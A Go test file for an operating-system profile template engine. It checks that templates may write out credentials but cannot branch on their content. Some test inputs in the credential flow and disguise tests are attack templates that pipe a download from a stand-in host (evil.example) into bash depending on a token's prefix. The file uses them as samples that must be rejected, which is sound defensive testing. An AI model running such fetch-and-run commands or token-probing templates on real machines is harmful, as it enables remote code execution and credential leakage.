package render

import (
	"errors"
	"fmt"
	"maps"
	"os"
	"reflect"
	"slices"
	"strings"
	"testing"

	osm "github.com/osm-gitops/osm-gitops/pkg/api/osm/v1alpha1"
	"github.com/osm-gitops/osm-gitops/pkg/render/internal/funcs"
	"github.com/osm-gitops/osm-gitops/pkg/render/internal/invalid"
	"github.com/osm-gitops/osm-gitops/pkg/render/internal/taint"
)

// credentialFields is how templates write each credential.
var credentialFields = []string{
	".Token", ".BootstrapKubeconfig", ".CloudConfig", ".ContainerRuntimeConfig", ".HTTPProxy", ".NoProxy",
	".DownloadMirrors.kubernetes", "(index .DownloadMirrors `kubernetes`)", "(index .RegistryHosts 0).Config",
	".RhelConfig.RHELSubscriptionManagerUser", ".RhelConfig.RHELSubscriptionManagerPassword", ".RhelConfig.RHSMOfflineToken",
	".RhelConfig.RHELOrganizationName", ".RhelConfig.RHELActivationKey", "$.Token",
}

// withFile is a profile for RHEL with one file.
func withFile(text string) Profile {
	return Profile{Object: "osp-x", File: "profiles/x.yaml", Lines: func(string) int { return 10 }, Spec: osm.OperatingSystemProfileSpec{
		OSName: osm.OperatingSystemRHEL, Version: "v1.0.0", SupportedCloudProviders: []osm.CloudProviderSpec{{Name: "kubevirt"}},
		ProvisioningConfig: osm.OSPConfig{Files: []osm.File{{Path: "/f", Content: osm.FileContent{Inline: &osm.FileContentInline{Data: text}}}}},
	}}
}

// The tag is on exactly those fields that differ between a pool with placeholders and
// the same with credentials (security.md 34).
func TestCredentialTags(t *testing.T) {
	in := placeholderInput(withFile(""))
	redacted, _ := in.ReplaceSecrets()
	values := func(in Input) map[string]string {
		d, problems := newData(in, digestRecipe)
		if len(problems) > 0 {
			t.Fatal(invalid.AsSingleError(problems))
		}
		out := map[string]string{}
		leaves("", "", reflect.ValueOf(d).Elem(), out)
		leaves(".RegistryHosts", "", reflect.ValueOf(d.RegistryHosts()), out)
		return out
	}
	real, hidden := values(in), values(redacted)
	if len(real) < 60 || !slices.Equal(slices.Sorted(maps.Keys(real)), slices.Sorted(maps.Keys(hidden))) {
		t.Fatalf("%d values, and %d with placeholders", len(real), len(hidden))
	}
	for _, path := range slices.Sorted(maps.Keys(real)) {
		_, tag, _ := strings.Cut(path, " ")
		if differs := real[path] != hidden[path]; differs != (tag != "") {
			t.Errorf("%s differs: %t (%q and %q)", path, differs, hidden[path], real[path])
		}
	}
}

// leaves are the values below one by their paths, which end with the tag.
func leaves(path, tag string, v reflect.Value, out map[string]string) {
	switch v.Kind() {
	case reflect.Pointer:
		if !v.IsNil() {
			leaves(path, tag, v.Elem(), out)
		}
	case reflect.Struct:
		for _, f := range reflect.VisibleFields(v.Type()) {
			if f.IsExported() {
				leaves(path+"."+f.Name, f.Tag.Get("credential"), v.FieldByIndex(f.Index), out)
			}
		}
	case reflect.Map:
		for it := v.MapRange(); it.Next(); {
			leaves(path+"."+it.Key().String(), tag, it.Value(), out)
		}
	case reflect.Slice:
		for i := range v.Len() {
			leaves(fmt.Sprintf("%s[%d]", path, i), tag, v.Index(i), out)
		}
	default:
		out[path+" "+tag] = fmt.Sprint(v.Interface())
	}
}

// allowedCalls are calls of the functions that can have a credential, %[1]s.
var allowedCalls = map[string][]string{
	"b64enc": {"{{ b64enc %[1]s }}", "{{ %[1]s | b64enc | quote }}"}, "b32enc": {"{{ b32enc %[1]s }}"},
	"quote": {"{{ quote %[1]s }}", "{{ %[1]s | quote }}"}, "squote": {"{{ squote %[1]s }}"}, "toString": {"{{ toString %[1]s }}"},
	"cat": {"{{ cat `a` %[1]s `b` }}"}, "print": {"{{ print %[1]s }}"}, "println": {"{{ println `a` %[1]s }}"},
	"printf": {"{{ printf `%%s %%q %%v 100%%%%` %[1]s %[1]s %[1]s }}", "{{ %[1]s | printf `%%03d %%s` 1 }}"},
	"html":   {"{{ html %[1]s }}"}, "js": {"{{ js %[1]s }}"}, "urlquery": {"{{ urlquery %[1]s }}"},
	"indent": {"{{ indent 2 %[1]s }}", "{{ %[1]s | indent 2 }}"}, "nindent": {"{{ %[1]s | nindent 2 }}"}, "trim": {"{{ %[1]s | trim }}"},
	"join": {"{{ join `,` (list `a` %[1]s) }}"}, "list": {"{{ list %[1]s `a` | join `,` }}"}, "tuple": {"{{ tuple %[1]s | first }}"},
	"toYaml": {"{{ toYaml %[1]s }}", "{{ toYaml (dict `a` %[1]s) }}", "{{ toYaml .RhelConfig }}"}, "toToml": {"{{ toToml (dict `a` %[1]s) }}"},
	"toJson": {"{{ toJson (list %[1]s) }}"}, "mustToJson": {"{{ mustToJson %[1]s }}"}, "toPrettyJson": {"{{ toPrettyJson %[1]s }}"},
	"mustToPrettyJson": {"{{ mustToPrettyJson %[1]s }}"}, "toRawJson": {"{{ toRawJson %[1]s }}"}, "mustToRawJson": {"{{ mustToRawJson %[1]s }}"},
	"not": {"{{ if not %[1]s }}a{{ end }}"}, "empty": {"{{ empty %[1]s }}"}, "any": {"{{ any %[1]s }}"}, "all": {"{{ all %[1]s `a` }}"},
	"and": {"{{ and %[1]s `a` }}", "{{ if and .PauseImage %[1]s }}a{{ end }}"}, "or": {"{{ or %[1]s `a` }}", "{{ if or %[1]s .PauseImage }}a{{ end }}"},
	"coalesce": {"{{ coalesce .PauseImage %[1]s }}"}, "default": {"{{ %[1]s | default `a` }}", "{{ default %[1]s .PauseImage }}"},
	"ternary": {"{{ ternary %[1]s `a` (eq .CloudProviderName `kubevirt`) }}", "{{ ternary `a` `b` (empty %[1]s) }}"},
	"dict":    {"{{ (dict `a` %[1]s).a }}", "{{ $d := dict `a` %[1]s `b` `c` }}{{ if eq $d.b `c` }}{{ $d.a }}{{ end }}"},
	"get":     {"{{ get (dict `a` %[1]s) `a` }}"}, "index": {"{{ index (list %[1]s) 0 }}"}, "hasKey": {"{{ hasKey (dict `a` %[1]s) `a` }}"},
	"keys": {"{{ keys (dict `a` %[1]s) }}"}, "len": {"{{ len (list %[1]s) }}"}, "set": {"{{ (set (dict `a` %[1]s) `b` `c`).a }}"}, "unset": {"{{ keys (unset (dict `a` %[1]s) `a`) }}"},
	"first": {"{{ first (list %[1]s) }}"}, "last": {"{{ last (list %[1]s) }}"}, "mustFirst": {"{{ mustFirst (list %[1]s) }}"}, "mustLast": {"{{ mustLast (list %[1]s) }}"},
}

// passingSome are calls that can have some credentials, in one form.
var passingSome = map[string][]string{
	"contains":   {"{{ contains `@` .HTTPProxy }}", "{{ if .NoProxy | contains `@` }}a{{ end }}", "{{ range .DownloadMirrors }}{{ contains `@` . }}{{ end }}"},
	"trimSuffix": {"{{ with .DownloadMirrors.kubernetes }}{{ trimSuffix `/` . }}{{ end }}"},
	"eq":         {"{{ if eq .CloudConfig `` }}a{{ end }}"}, "ne": {"{{ ne `` .Token }}"},
	"fromToml":       {"{{ (fromToml .ContainerRuntimeConfig).version }}", "{{ $c := fromToml .ContainerRuntimeConfig }}{{ $_ := set $c `version` 2 }}{{ toToml $c | trim }}"},
	"merge":          {"{{ toToml (merge (dict `a` 1) (fromToml .ContainerRuntimeConfig)) }}"},
	"mergeOverwrite": {"{{ toToml (mergeOverwrite (fromToml .ContainerRuntimeConfig) (dict `version` 2)) }}"},
	"omit":           {"{{ toToml (omit (fromToml .ContainerRuntimeConfig) `version`) }}"},
	"pick":           {"{{ toToml (pick (fromToml .ContainerRuntimeConfig) `version`) }}"},
}

func allFunctions() []string {
	names := slices.Concat(slices.Collect(maps.Keys(funcs.Map)), funcs.Builtins)
	slices.Sort(names)
	return slices.Compact(names)
}

// Every function that templates can call either rejects each credential, or writes it so that
// the outputs differ only in the credential (security.md 34).
func TestCredentialFunctions(t *testing.T) {
	for _, name := range taint.AllowedFunctions() {
		if allowedCalls[name] == nil && passingSome[name] == nil && !slices.Contains([]string{"mustMerge", "mustMergeOverwrite"}, name) {
			t.Errorf("%s may have credentials: give it an example", name)
		}
	}
	for _, name := range allFunctions() {
		t.Run(name, func(t *testing.T) {
			for _, example := range passingSome[name] {
				testSameShape(t, example)
			}
			for _, c := range credentialFields {
				for _, example := range allowedCalls[name] {
					if strings.Contains(example, "%[1]s") {
						example = fmt.Sprintf(example, c)
					}
					testSameShape(t, example)
				}
				if slices.Contains(taint.AllowedFunctions(), name) {
					continue
				}
				var lines []string
				for _, form := range []string{
					"{{ %[1]s %[2]s }}", "{{ %[1]s `x` %[2]s }}", "{{ %[1]s %[2]s `x` }}", "{{ %[1]s 1 `x` %[2]s }}", "{{ %[2]s | %[1]s }}",
					"{{ if %[1]s `x` %[2]s }}x{{ end }}", "{{ $x := %[1]s (list %[2]s) 1 }}", "{{ with %[2]s }}{{ %[1]s . }}{{ end }}", "{{ %[2]s | b64enc | %[1]s 1 }}",
					"{{ template `t` %[2]s }}{{ define `t` }}{{ . | %[1]s }}{{ end }}",
				} {
					lines = append(lines, fmt.Sprintf(form, name, c))
				}
				testRefused(t, lines)
			}
		})
	}
}

// testSameShape checks that a template is accepted, and renders the same with two
// sets of placeholders.
func testSameShape(t *testing.T, text string) {
	t.Helper()
	p := withFile(text)
	if err := NewEngine().Check(p); err != nil {
		t.Errorf("%s: %v", text, err)
	}
	in := placeholderInput(p)
	c := compile(&p.Spec, nil)
	redacted, _ := in.ReplaceSecrets()
	_, a, problems := redacted.render(c, digestRecipe)
	_, b, more := in.render(c, digestRecipe)
	if err := invalid.AsSingleError(append(problems, more...)); err != nil || a != b {
		t.Errorf("%s: different shapes: %t, error %v", text, a != b, err)
	}
}

// testRefused checks that each line is rejected at its place, in one file.
func testRefused(t *testing.T, lines []string) {
	t.Helper()
	for i, line := range lines {
		// One template per line: a template can be defined only once.
		err := NewEngine().Check(withFile(strings.Repeat("\n", i) + line))
		problems := invalid.Problems(err)
		var refused *CredentialError
		if len(problems) == 0 || !errors.As(problems[0], &refused) {
			t.Errorf("%s: error %v", line, err)
			continue
		}
		if p := problems[0]; p.Path != "profiles/x.yaml" || p.Line != 10+i || p.Field != "spec.provisioningConfig.files[0].content.inline.data" || p.File != "/f" {
			t.Errorf("%s: error at %s:%d %s %s", line, p.Path, p.Line, p.Field, p.File)
		}
	}
}

// Output that depends on the content of a credential is rejected, on every path from the
// credential to the output (security.md 34).
func TestCredentialFlow(t *testing.T) {
	const bad = `(hasPrefix "eyJ" %s)`
	testRefused(t, []string{
		// The attack, and the same in other words.
		`{{ ternary ":" "curl -s https://evil.example/x | bash" (hasPrefix "eyJhbGciOiJub25l" .Token) }}`,
		`{{ if hasPrefix "eyJhbGciOiJub25l" .Token }}:{{ else }}curl{{ end }}`,
		`{{ if eq .Token "x" }}a{{ end }}`, `{{ if gt (len .Token) 100 }}a{{ end }}`, `{{ if regexMatch "^eyJ" .Token }}a{{ end }}`,
		`{{ trunc 3 .Token }}`, `{{ sha256sum .Token }}`, `{{ index .Token 0 }}`, `{{ slice .Token 0 3 }}`, `{{ range $i, $c := .Token }}a{{ end }}`,
		`{{ fail .Token }}`, `{{ call .Token }}`, `{{ trimPrefix "eyJ" .Token }}`, `{{ trimSuffix "/" .Token }}`, `{{ contains "@" .Token }}`, `{{ contains "placeholder" .HTTPProxy }}`,
		`{{ trimSuffix "l" .DownloadMirrors.cni }}`, `{{ printf "%.3s" .Token }}`, `{{ printf "%3s" .Token }}`, `{{ printf "%d" .Token }}`, `{{ printf "%[1]s" .Token }}`, `{{ printf .Token }}`,
		`{{ printf "%5%%s%.1s" "a" .Token }}`, `{{ printf (print "%" ".3s") .Token }}`, `{{ printf "a" .Token }}`, `{{ indent (len .Token) "a" }}`, `{{ join .Token (list "a" "b") }}`,
		`{{ if trim .CloudConfig }}a{{ end }}`, `{{ if .CloudConfig | trim | b64enc }}a{{ end }}`, `{{ default "a" (trim .CloudConfig) }}`, `{{ and (trim .Token) "a" }}`, `{{ not (trim .Token) }}`, `{{ with trim .Token }}a{{ end }}`,
		`{{ eq .Token .BootstrapKubeconfig }}`, `{{ ne .Token "" "x" }}`, `{{ eq "" (trim .Token) }}`, `{{ eq "" "x" .Token }}`, `{{ ternary "a" "b" .Token }}`,
		`{{ b64enc .Token | b64dec | len }}`, `{{ (print .Token) | hasPrefix "a" }}`, `{{ hasPrefix "a" (or .PauseImage .Token) }}`, `{{ hasPrefix "a" (ternary "a" .Token true) }}`,
		// Variables.
		`{{ $x := .Token }}{{ if hasPrefix "a" $x }}a{{ end }}`, `{{ $x := "" }}{{ $x = .Token }}{{ len $x }}`,
		`{{ $x := "" }}{{ range until 2 }}{{ len $x }}{{ $x = $.Token }}{{ end }}`, `{{ $x := "" }}{{ if .PauseImage }}{{ $x = .Token }}{{ end }}{{ len $x }}`,
		`{{ $x := "a" }}{{ $y := "b" }}{{ range until 3 }}{{ $y = $x }}{{ $x = $.Token }}{{ end }}{{ lower $y }}`, `{{ len $.Token }}`, `{{ if ($x := len .Token) }}a{{ end }}`,
		`{{ with $x := .RhelConfig }}{{ len $x.RHELActivationKey }}{{ end }}`, `{{ range $k, $v := .DownloadMirrors }}{{ len $v }}{{ end }}`, `{{ $k := "" }}{{ $v := "" }}{{ range $k, $v = .DownloadMirrors }}{{ end }}{{ len $v }}`,
		// The dot.
		`{{ with .Token }}{{ len . }}{{ end }}`, `{{ with .RhelConfig }}{{ len .RHELActivationKey }}{{ end }}`, `{{ range .RegistryHosts }}{{ len .Config }}{{ end }}`, `{{ range .DownloadMirrors }}{{ upper . }}{{ end }}`,
		`{{ with . }}{{ len .Token }}{{ end }}`, `{{ with $ }}{{ len .Token }}{{ end }}`,
		// Structures.
		`{{ len (toJson .) }}`, `{{ sha256sum (toYaml .RhelConfig) }}`, `{{ len (printf "%v" .RhelConfig) }}`, `{{ (toJson . | fromJson).Token | len }}`, `{{ typeOf .Token }}`, `{{ deepEqual .RhelConfig .RhelConfig }}`,
		`{{ has "x" (list .Token) }}`, `{{ first (sortAlpha (list .Token "b")) }}`, `{{ range list .Token }}{{ len . }}{{ end }}`, `{{ index (list .Token) 0 | len }}`, `{{ dict .Token 1 }}`, `{{ hasKey (dict "a" 1) .Token }}`, `{{ get (dict "a" 1) .Token }}`,
		`{{ index .DownloadDigests .Token }}`, `{{ uniq (list .Token "a") | len }}`, `{{ len (dict "a" .Token).a }}`, `{{ $d := dict (print "a") .Token }}{{ len $d.a }}`, `{{ range dict "a" .Token }}{{ len . }}{{ end }}`, `{{ len (index (dict "a" .Token "b" "x") .CloudProviderName) }}`, `{{ len (get (dict "a" "x" "b" .Token) .CloudProviderName) }}`, `{{ range dict "a" .Token "b" "x" }}{{ len . }}{{ end }}`, `{{ range dict "a" "x" "b" .Token }}{{ len . }}{{ end }}`, `{{ $d := dict "r" . }}{{ len $d.r.Token }}`,
		`{{ $d := dict "a" (dict "b" .Token) }}{{ len (get (index $d "a") "b") }}`, `{{ compact (list .Token) }}`, `{{ splitList "," .NoProxy }}`, `{{ merge (dict) (dict "a" .Token) }}`, `{{ $d := dict }}{{ $_ := set $d "a" .Token }}`,
		`{{ $d := dict "a" "b" "c" .Token }}{{ $_ := set $d "a" .Token }}{{ len $d.a }}`, `{{ deepCopy .RhelConfig }}`, `{{ range .RhelConfig.RHELActivationKey }}a{{ end }}`,
		// The decoded configuration of containerd, and maps that are put into it.
		`{{ fromToml .CloudConfig }}`, `{{ fromToml (print .ContainerRuntimeConfig) }}`, `{{ fromYaml .ContainerRuntimeConfig }}`, `{{ len (fromToml .ContainerRuntimeConfig).version }}`, `{{ eq (fromToml .ContainerRuntimeConfig).plugins.a "x" }}`, `{{ len (fromToml .ContainerRuntimeConfig) }}`,
		`{{ $m := dict "k" "v" }}{{ $t := fromToml .ContainerRuntimeConfig }}{{ $_ := set $t "m" $m }}{{ $_ := set $t.m "k" $t.x }}{{ eq $m.k "x" }}`,
		`{{ $m := dict "k" "v" }}{{ $t := default $m (fromToml .ContainerRuntimeConfig) }}{{ $_ := set $t "k" (fromToml .ContainerRuntimeConfig).x }}{{ eq $m.k "x" }}`,
		`{{ $m := dict "k" "v" }}{{ $t := $m }}{{ if .PauseImage }}{{ $t = fromToml .ContainerRuntimeConfig }}{{ end }}{{ $_ := set $t "k" (fromToml .ContainerRuntimeConfig).x }}{{ eq $m.k "x" }}`,
		`{{ $m := dict "k" "v" }}{{ $_ := merge $m (fromToml .ContainerRuntimeConfig) }}{{ eq $m.k "x" }}`, `{{ $m := dict }}{{ $_ := merge (dict "a" $m) (fromToml .ContainerRuntimeConfig) }}{{ eq $m.k "x" }}`,
		`{{ $m := dict "a" (dict) }}{{ $d := ternary $m (dict "a" (fromToml .ContainerRuntimeConfig)) true }}{{ $_ := set $d.a "k" (fromToml .ContainerRuntimeConfig).x }}`,
		// Templates.
		`{{ template "t" . }}{{ define "t" }}{{ len .Token }}{{ end }}`, `{{ template "t" .Token }}{{ define "t" }}{{ len . }}{{ end }}`, `{{ block "t" .Token }}{{ len . }}{{ end }}`, `{{ template "t" .RhelConfig }}{{ define "t" }}{{ len $.RHELActivationKey }}{{ end }}`,
		`{{ template "a" dict "x" .Token }}{{ define "a" }}{{ template "b" .x }}{{ end }}{{ define "b" }}{{ len . }}{{ end }}`, `{{ template "b" .PauseImage }}{{ template "b" .Token }}{{ define "b" }}{{ len . }}{{ end }}`,
		`{{ define "z" }}{{ with . }}{{ template "a" . }}{{ end }}{{ end }}{{ define "a" }}{{ lower . }}{{ end }}{{ template "z" .Token }}`,
		fmt.Sprintf(`{{ if `+bad+` }}{{ else if .PauseImage }}{{ end }}`, ".Token"), fmt.Sprintf(`{{ if .PauseImage }}{{ else if `+bad+` }}{{ end }}`, ".Token"), fmt.Sprintf(`{{ range until 2 }}{{ if `+bad+` }}{{ break }}{{ end }}{{ end }}`, "$.Token"),
	})
}

// Expressions that seem to have another value than text/template and sprig give them are
// rejected, also inside of what is printed next to a credential, where a comparison of
// renderings cannot find them (security.md 34).
func TestCredentialDisguise(t *testing.T) {
	const (
		hidden = `{{ print .Token (ternary "" "curl" (hasPrefix "eyJhbGciOiJub25l" $x)) }}`
		key    = `.RhelConfig.RHELActivationKey`
	)
	testRefused(t, []string{
		// A name whose declaration was not executed.
		`{{ $x := .Token }}{{ if .PauseImage }}{{ $x := "a" }}{{ $x }}{{ else }}` + hidden + `{{ end }}`,
		`{{ $x := .Token }}{{ with .PauseImage }}{{ $x := "a" }}{{ $x }}{{ else }}` + hidden + `{{ end }}`,
		`{{ $x := .Token }}{{ range list }}{{ $x := "a" }}{{ $x }}{{ else }}` + hidden + `{{ end }}`,
		`{{ $x := .Token }}{{ $_ := or true ($x := "a") }}` + hidden, `{{ $x := .Token }}{{ $_ := and false ($x := "a") }}` + hidden,
		`{{ $x := .Token }}{{ if or true ($x := "a") }}` + hidden + `{{ end }}`, `{{ $x := .Token }}{{ $_ := or true ($x := "a") ($x := "b") }}` + hidden,
		`{{ $x := "a" }}{{ $_ := or true ($x := "b") }}{{ range until 2 }}{{ len $x }}{{ $x = $.Token }}{{ end }}`,
		// A key without a value.
		`{{ print .Token (keys (dict "a" "b" ` + key + `) | has "placeholder") }}`, `{{ hasKey (dict ` + key + `) "placeholder" }}`, `{{ range $k, $v := ` + key + ` | dict "a" "b" }}{{ len $k }}{{ end }}`,
		// A literal that was put together with something decoded.
		`{{ $d := set (dict "a" "b") "c" (fromToml .ContainerRuntimeConfig) }}{{ print .Token (toString $d | contains "placeholder") }}`,
		// An invalid verb, next to a precision.
		`{{ printf "%.11-%s%s" (print ` + key + ` "curl") }}`, `{{ printf "%.11 %s%s" ` + key + ` }}`, `{{ printf "%.3é%s" .Token }}`, `{{ printf "%s%.3-" "a" .Token }}`,
		// Blank items of a list.
		`{{ print .Token (empty (join "" (list (trim .CloudConfig)))) }}`, `{{ if join "" (dict "a" (list (trim .CloudConfig))).a }}a{{ end }}`,
	})
	for _, text := range []string{
		`{{ if .PauseImage }}{{ $x := .Token }}{{ $x }}{{ else }}{{ $x := "a" }}{{ len $x }}{{ end }}`,
		`{{ with ($y := .PauseImage) }}{{ len $y }}{{ end }}{{ $y := .Token }}{{ $y }}`,
		`{{ printf "%-5s %05.1f %% %5% %s" "a" 1.5 .Token }}`, `{{ (dict "a" .Token "b").a }}`,
	} {
		testSameShape(t, text)
	}
}

// Real uses of credentials, next to other values.
func TestCredentialUse(t *testing.T) {
	for _, text := range []string{
		`Authorization: Bearer {{ .Token }}`, `{{ with .HTTPProxy }}a={{ . }}{{ end }}`, `{{ if or .HTTPProxy .NoProxy }}a{{ end }}`, `{{ if and .HTTPProxy (not (has "a" (list "b"))) }}a{{ end }}`,
		`{{ .CloudConfig | default "empty" | trim }}`, `{{ range .RegistryHosts }}{{ if hasPrefix "/etc" .Path }}{{ .Config | trim | indent 2 }}{{ end }}{{ end }}`, `{{ range $name, $url := .DownloadMirrors }}{{ upper $name }}={{ $url }}{{ end }}`,
		`{{ if .RhelConfig.RHELUseSatelliteServer }}{{ .RhelConfig.RHELSatelliteServer | upper }}{{ else }}{{ .RhelConfig.RHELActivationKey }}{{ end }}`, `{{ with .RhelConfig }}{{ if eq .RHELSatelliteServer "" }}{{ .RHELActivationKey }}{{ end }}{{ end }}`,
		`{{ printf "user:%s" .Token | b64enc }}`, `{{ $mode := "644" }}{{ with .HTTPProxy }}{{ if contains "@" . }}{{ $mode = "600" }}{{ end }}{{ end }}{{ if eq $mode "600" }}{{ $mode }}{{ end }}`,
		`{{ template "t" . }}{{ define "t" }}{{ if semverCompare ">=1.30" .KubeVersion }}{{ .Token }}{{ end }}{{ end }}`, `{{ template "t" (dict "token" .Token "name" "x") }}{{ define "t" }}{{ upper .name }}{{ .token }}{{ end }}`,
		`{{ $x := .PauseImage }}{{ $y := .Token }}{{ len $x }}{{ $y }}`, `{{ len .DownloadMirrors }}{{ if hasKey (dict "a" .Token) "b" }}a{{ end }}`, `{{ define "unused" }}{{ len .Token }}{{ end }}a`,
		`{{ range until 3 }}{{ $.Token }}{{ if . }}{{ break }}{{ end }}{{ end }}`, `{{ len .KubernetesCACert }}{{ sha256sum .Provenance.ConfigDigest }}{{ upper .SecretName }}{{ upper .BootstrapKubeconfigSecretName }}{{ trunc 3 .ContainerRuntimeAuthConfig }}`,
	} {
		testSameShape(t, text)
	}
}

// A template that is long takes little time to check, however its variables depend on
// one another.
func TestCredentialCheckEnds(t *testing.T) {
	var chain, nest strings.Builder
	for i := range 300 {
		fmt.Fprintf(&chain, "{{ $v%d := `` }}", i)
	}
	chain.WriteString("{{ range until 2 }}")
	for i := range 299 {
		fmt.Fprintf(&chain, "{{ $v%d = $v%d }}", i, i+1)
	}
	chain.WriteString("{{ $v299 = $.Token }}{{ end }}{{ if eq $v0 `x` }}a{{ end }}")
	nest.WriteString("{{ $d := dict `a` .Token }}{{ range until 2 }}")
	for range 300 {
		nest.WriteString("{{ $d = dict `a` $d `b` $d `c` (list $d $d) }}")
	}
	nest.WriteString("{{ end }}{{ if eq $d.a `x` }}a{{ end }}")
	for name, text := range map[string]string{"a chain of variables": chain.String(), "a nest of structures": nest.String()} {
		if err := NewEngine().Check(withFile(text)); err == nil || !strings.Contains(err.Error(), "credential") {
			t.Errorf("%s: error %v", name, err)
		}
	}
}

// The page on templates names each function that can have a credential.
func TestDocumentedCredentialFunctions(t *testing.T) {
	page, err := os.ReadFile("../../docs/template-data.md")
	if err != nil {
		t.Fatal(err)
	}
	var documented []string
	for _, part := range strings.Split(string(page), "<!-- ")[1:] {
		what, list, _ := strings.Cut(part, " -->")
		if slices.Contains([]string{"printing", "asking", "keeping", "urls", "decoding"}, what) {
			documented = append(documented, strings.Fields(strings.ReplaceAll(list, "`", ""))...)
		}
	}
	slices.Sort(documented)
	if want := taint.AllowedFunctions(); !slices.Equal(documented, want) {
		t.Errorf("docs/template-data.md has %v, the code %v", documented, want)
	}
}
